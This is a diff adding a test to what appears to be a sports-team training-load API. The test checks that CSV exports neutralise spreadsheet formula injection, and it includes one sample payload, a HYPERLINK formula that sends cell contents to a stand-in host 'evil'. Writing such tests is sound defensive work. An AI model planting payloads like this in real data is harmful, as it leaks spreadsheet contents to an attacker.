@@ -340,3 +340,23 @@ async def test_statement_count_does_not_grow_with_the_team(
         response = await api.client.get(path, params={"week": WEEK}, headers=squad.coach.headers)
     assert len(response.text.strip().splitlines()) == 1 + 14 * 7
     assert len(small) == len(large), (small, large)
+
+
+async def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(api: Api, squad: Squad) -> None:
+    """A player who calls themselves ``=HYPERLINK(...)`` must not get a live formula into
+    the coach's spreadsheet: the cell starts with an apostrophe, which Excel and Sheets
+    show as text; the numbers of the same rows are unchanged."""
+    await _seed(api, squad)
+    attack = '=HYPERLINK("http://evil/?"&A1,"Click")'
+    async with api.sessionmaker.begin() as session:
+        user = await session.get(User, squad.player.id)
+        assert user is not None
+        user.full_name = attack
+        teammate = await session.get(User, squad.teammate.id)
+        assert teammate is not None
+        teammate.full_name = "@SUM(1+1)"
+    rows = await _csv(api.client, squad)
+    assert {r["player"] for r in rows[:7]} == {"'" + attack}
+    assert {r["player"] for r in rows[7:]} == {"'@SUM(1+1)"}
+    assert rows[0]["internal_load_au"] == "300"
+    assert rows[0]["external_load_pl"] == "410.5"
